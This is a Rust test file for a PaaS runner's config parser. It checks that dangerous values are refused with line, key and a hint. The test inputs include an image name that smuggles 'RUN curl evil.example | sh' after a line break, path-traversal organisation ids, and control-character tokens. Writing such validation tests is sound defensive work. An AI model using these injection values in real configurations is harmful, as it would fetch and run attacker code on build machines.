//! Values refused because they would fail late or dangerously.

use super::*;

/// Values that would fail late or dangerously: each refused at start with
/// its line and key, without quoting a secret.
#[test]
fn dangerous_values_are_refused_with_what_to_write_instead() {
    let cases = [
        (
            "cc_token = \"cc-main-token-value\"",
            "cc_token = \"cc-main-token-value\\n\"",
            "/etc/paas.toml:12: key `runners[0].cc_token`: the Clever Cloud token contains a \
             control character (a line break, tab or escape code) at character 20; write the \
             token alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "cc_token = \"cc-main-token-value\"",
            "cc_token = \"cc-main\\u001b[2Jtoken-value\"",
            "/etc/paas.toml:12: key `runners[0].cc_token`: the Clever Cloud token contains a \
             control character (a line break, tab or escape code) at character 8; write the \
             token alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = \"\"\"\nglrt-main-token-value\n\"\"\"",
            // A TOML multi-line string drops the first line break only.
            "/etc/paas.toml:9: key `runners[0].token`: the runner token contains a control \
             character (a line break, tab or escape code) at character 22; write the token \
             alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = \"glrt-main-token-value\\r\"",
            "/etc/paas.toml:9: key `runners[0].token`: the runner token contains a control \
             character (a line break, tab or escape code) at character 22; write the token \
             alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n\
             heptapod_runner_main_image = \"alpine\\nRUN curl evil.example | sh\"\n",
            "/etc/paas.toml:13: key `runners[0].heptapod_runner_main_image`: the image name \
             contains a control character (a line break, tab or escape code) at character 7; \
             write one image reference on one line, such as \
             \"registry.heptapod.net/heptapod/heptapod-runner:latest\"",
        ),
        (
            "cc_orga_id = \"orga_x\"",
            "cc_orga_id = \"orga_x/../../self\"",
            "/etc/paas.toml:11: key `runners[0].cc_orga_id`: \"orga_x/../../self\" is not a \
             Clever Cloud organisation id: it contains characters other than letters, digits, \
             `-` and `_`; write the id Clever Cloud shows for the organisation, such as \
             \"orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76\" (or \"user_…\" for a personal account)",
        ),
        (
            "cc_orga_id = \"orga_x\"",
            "cc_orga_id = \"../orga_x\"",
            "/etc/paas.toml:11: key `runners[0].cc_orga_id`: \"../orga_x\" is not a Clever \
             Cloud organisation id: it does not start with `orga_` or `user_`; write the id \
             Clever Cloud shows for the organisation, such as \
             \"orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76\" (or \"user_…\" for a personal account)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\nCC_MOUNT_X = \"1\"\n",
            "/etc/paas.toml:13: key `runners[0].cc_extra_env`: [runners.cc_extra_env] has no \
             CC_ENABLE_HEPTAPOD_RUNNER; add the line CC_ENABLE_HEPTAPOD_RUNNER = \"true\" to it \
             (heptapod-paas-runner requires it for the job machines)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\n\
             CC_ENABLE_HEPTAPOD_RUNNER = false\n",
            "/etc/paas.toml:13: key `runners[0].cc_extra_env`: [runners.cc_extra_env] sets \
             CC_ENABLE_HEPTAPOD_RUNNER to another value than \"true\"; add the line \
             CC_ENABLE_HEPTAPOD_RUNNER = \"true\" to it (heptapod-paas-runner requires it for \
             the job machines)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.paas_job_trace_watch]\n\
             token = \"glrt-second-token\\t\"\n",
            "/etc/paas.toml:14: key `runners[0].paas_job_trace_watch.token`: the job log watch \
             token contains a control character (a line break, tab or escape code) at \
             character 18; write the token alone on one line, exactly as it was given, \
             without escapes such as \\n",
        ),
    ];
    for (old, new, expect) in cases {
        check(&base_with(old, new), expect);
    }
    // What is accepted.
    for orga_id in [
        "orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76",
        "user_1a2b",
        "orga_x",
    ] {
        parse_ok(&base_with(
            "cc_orga_id = \"orga_x\"",
            &format!("cc_orga_id = \"{orga_id}\""),
        ));
    }
    for bad in [
        "orga_",
        "orga x",
        "orga_x?y",
        "orga_x#y",
        "app_1",
        "orga_x\u{202e}",
    ] {
        let error = parse_err(&base_with(
            "cc_orga_id = \"orga_x\"",
            &format!("cc_orga_id = \"{bad}\""),
        ));
        assert_eq!(error.key(), Some("runners[0].cc_orga_id"), "{bad}: {error}");
        assert!(
            !error.to_string().contains('\u{202e}'),
            "{bad}: raw control in {error}"
        );
    }
    let config = parse_ok(&base_with(
        "cc_token = \"cc-main-token-value\"\n",
        "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\n\
         CC_ENABLE_HEPTAPOD_RUNNER = \"true\"\n",
    ));
    assert_eq!(config.runners[0].cc.extra_env.len(), 1);
}
